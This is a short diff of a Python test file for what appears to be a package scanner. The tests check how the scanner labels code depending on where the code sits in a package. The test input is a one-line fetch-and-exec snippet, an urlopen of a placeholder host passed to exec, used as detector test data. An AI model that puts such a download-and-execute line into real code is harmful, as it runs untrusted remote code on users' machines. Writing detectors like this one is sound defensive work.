@@ -75,7 +75,7 @@ def test_a_command_that_stands_encoded_in_the_source_is_told_from_decoded_data()
 
 def test_documentation_beside_the_package_is_not_run_by_an_import() -> None:
     source = "from urllib.request import urlopen\nexec(urlopen('https://example.invalid/conf').read())"
-    assert {"latent-download-execution"} == rules(source, "pkg-1.0/doc/conf.py")
+    assert {"aside-behaviour"} == rules(source, "pkg-1.0/doc/conf.py")
     assert "import-download-execution" in rules(source, "pkg-1.0/pkg/conf.py")
     assert "import-download-execution" in rules(source, "pkg-1.0/pkg/docs/conf.py")
 
